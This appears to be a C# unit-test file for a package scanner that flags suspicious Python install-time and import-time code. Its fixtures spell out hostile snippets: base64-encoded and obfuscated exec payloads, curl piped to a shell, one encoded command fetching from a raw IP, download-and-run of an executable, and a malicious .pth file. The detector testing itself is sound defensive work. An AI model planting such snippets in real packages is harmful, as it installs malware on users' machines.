using static Bulwark.Core.Tests.Moderation.ScanTestKit;

namespace Bulwark.Core.Tests.Moderation;

/// <summary>Rules about code that runs other code: exec of payloads, downloads run, commands started at install.</summary>
public class ExecutionRuleTests
{
    [Fact]
    public void Exec_of_a_base64_payload_is_flagged() =>
        Has(Init("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"), "exec-encoded-payload");

    [Fact]
    public void Exec_of_a_file_read_in_setup_py_is_not() =>
        // setup.py files commonly exec their version module.
        Clean(SetupPy("from setuptools import setup\nexec(open('pkg/version.py').read())\nsetup(name='pkg')\n"));

    [Fact]
    public void Exec_hidden_behind_getattr_and_concatenation_is_seen() =>
        Has(Init("import base64 as b\nx = getattr(__builtins__, 'ex' + 'ec')\nx(b.b64decode('cHJpbnQoMSk='))\n"), "exec-encoded-payload");

    [Fact]
    public void Exec_through_builtins_dict_and_join_is_seen() =>
        Has(Init("import zlib\np = zlib.decompress(data)\n__builtins__.__dict__[''.join(['e','x','e','c'])](p)\n"), "exec-encoded-payload");

    [Fact]
    public void Exec_of_a_string_rebuilt_from_character_codes_is_flagged() =>
        Has(Init("exec(''.join(map(chr, [112, 114, 105, 110, 116, 40, 49, 41])))\n"), "exec-obfuscated-code");

    [Fact]
    public void Reversing_a_list_of_names_before_eval_is_not_a_payload() =>
        Clean(Library("def lookup(ids, ns):\n    name = '.'.join(ids[::-1])\n    return eval(name, ns)\n"));

    [Fact]
    public void Decoded_payload_is_analysed_in_turn() =>
        // base64 of: import os;os.system('curl -s http://45.1.2.3/x | sh')
        Has(Init("import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnY3VybCAtcyBodHRwOi8vNDUuMS4yLjMveCB8IHNoJyk='))\n"), "shell-downloader");

    [Fact]
    public void Exec_of_downloaded_text_is_download_execute() =>
        Has(SetupPy("import requests\nexec(requests.get('https://example.org/x.py').text)\n"), "download-execute");

    [Fact]
    public void Fetch_save_run_in_setup_py_is_download_execute() =>
        Has(SetupPy("import urllib.request, os\nurllib.request.urlretrieve('https://example.org/a.exe', 'a.exe')\nos.startfile('a.exe')\n"), "download-execute");

    [Fact]
    public void A_library_function_that_downloads_a_file_is_not() =>
        Clean(Library("import urllib.request\ndef fetch(url, path):\n    urllib.request.urlretrieve(url, path)\n    return path\n"));

    [Fact]
    public void Curl_piped_to_a_shell_is_flagged() =>
        Has(SetupPy("import os\nos.system('curl -fsSL http://example.org/i.sh | bash')\n"), "shell-downloader");

    [Fact]
    public void A_help_text_mentioning_curl_is_not() =>
        Clean(Library("MESSAGE = 'Install with: curl -sSL https://install.example.org | python3 -'\ndef hint():\n    print(MESSAGE)\n"));

    [Fact]
    public void Network_at_install_time_is_flagged() =>
        Flagged(SetupPy("import urllib.request\nurllib.request.urlopen('https://example.org/ping')\n"));

    [Fact]
    public void Network_in_a_library_function_is_not() =>
        Clean(Library("import requests\ndef get(url):\n    return requests.get(url, timeout=5).json()\n"));

    [Fact]
    public void Subprocess_in_setup_py_alone_is_a_weak_signal() =>
        // git describe for the version: the most common subprocess in setup.py.
        Clean(SetupPy("import subprocess\nv = subprocess.check_output(['git', 'describe', '--tags']).decode().strip()\n"));

    [Fact]
    public void Subprocess_in_setup_py_is_recorded() =>
        Has(SetupPy("import subprocess\nsubprocess.check_call(['make'])\n"), "install-process");

    [Fact]
    public void Install_command_with_side_effects_is_an_install_hook()
    {
        var report = SetupPy("""
            from setuptools import setup
            from setuptools.command.install import install
            import subprocess
            class Post(install):
                def run(self):
                    install.run(self)
                    subprocess.call(['touch', '/tmp/x'])
            setup(cmdclass={'install': Post})
            """);
        Has(report, "install-hook");
        Clean(report);
    }

    [Fact]
    public void Build_ext_command_running_cmake_is_not_an_install_hook() =>
        HasNot(SetupPy("""
            from setuptools.command.build_ext import build_ext
            import subprocess
            class CMakeBuild(build_ext):
                def run(self):
                    subprocess.check_call(['cmake', '..'])
            """), "install-hook");

    [Fact]
    public void Running_a_bundled_file_at_import_is_flagged() =>
        Has(Init("import os, subprocess\nsubprocess.Popen([os.path.join(os.path.dirname(__file__), 'bin', 'tool')])\n"), "runs-bundled-binary");

    [Fact]
    public void Running_a_bundled_file_from_a_function_is_not() =>
        HasNot(Library("import os, subprocess\ndef run():\n    subprocess.run([os.path.join(os.path.dirname(__file__), 'tool')])\n"), "runs-bundled-binary");

    [Fact]
    public void Hidden_window_process_at_install_is_flagged() =>
        Has(SetupPy("import subprocess\nsubprocess.Popen('x.exe', creationflags=subprocess.CREATE_NO_WINDOW)\n"), "hidden-process");

    [Fact]
    public void Hidden_window_process_in_a_gui_library_function_is_clean() =>
        Clean(Library("import subprocess\ndef run(cmd):\n    si = subprocess.STARTUPINFO()\n    return subprocess.run(cmd, startupinfo=si)\n"));

    [Fact]
    public void Pth_file_with_an_import_line_is_recorded_and_its_code_analysed()
    {
        var report = Wheel(("evil.pth", "import os;os.system('curl -s http://example.org/a | sh')\n"));
        Has(report, "pth-exec");
        Has(report, "shell-downloader");
    }

    [Fact]
    public void Pth_file_with_paths_only_is_clean() =>
        Clean(Wheel(("pkg.pth", "/opt/pkg/lib\n./vendor\n")));

    [Fact]
    public void Function_called_at_import_counts_as_import_time_code() =>
        Has(Init("import urllib.request\ndef beacon():\n    urllib.request.urlopen('https://example.org/b')\nbeacon()\n"), "install-network");

    [Fact]
    public void Function_started_in_a_thread_at_import_counts_too() =>
        Has(Init("import threading, urllib.request\ndef beacon():\n    urllib.request.urlopen('https://example.org/b')\nthreading.Thread(target=beacon).start()\n"), "install-network");

    [Fact]
    public void Function_only_assigned_at_import_does_not() =>
        HasNot(Init("import urllib.request\ndef fetch():\n    return urllib.request.urlopen('https://example.org/')\ndefault_fetch = fetch\n"), "install-network");
}
